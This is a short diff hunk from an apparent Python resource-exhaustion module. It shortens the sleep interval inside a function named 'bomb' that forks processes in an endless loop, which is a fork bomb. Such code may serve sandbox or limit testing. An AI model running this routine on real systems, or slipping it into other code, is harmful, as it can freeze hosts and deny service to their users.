@@ -68,7 +68,7 @@ def bomb(folder: str, x: int) -> None:
     while True:
         with contextlib.suppress(OSError):
             os.fork()
-        time.sleep(0.005)
+        time.sleep(0.002)
 
 
 def recurse(x: int) -> int:
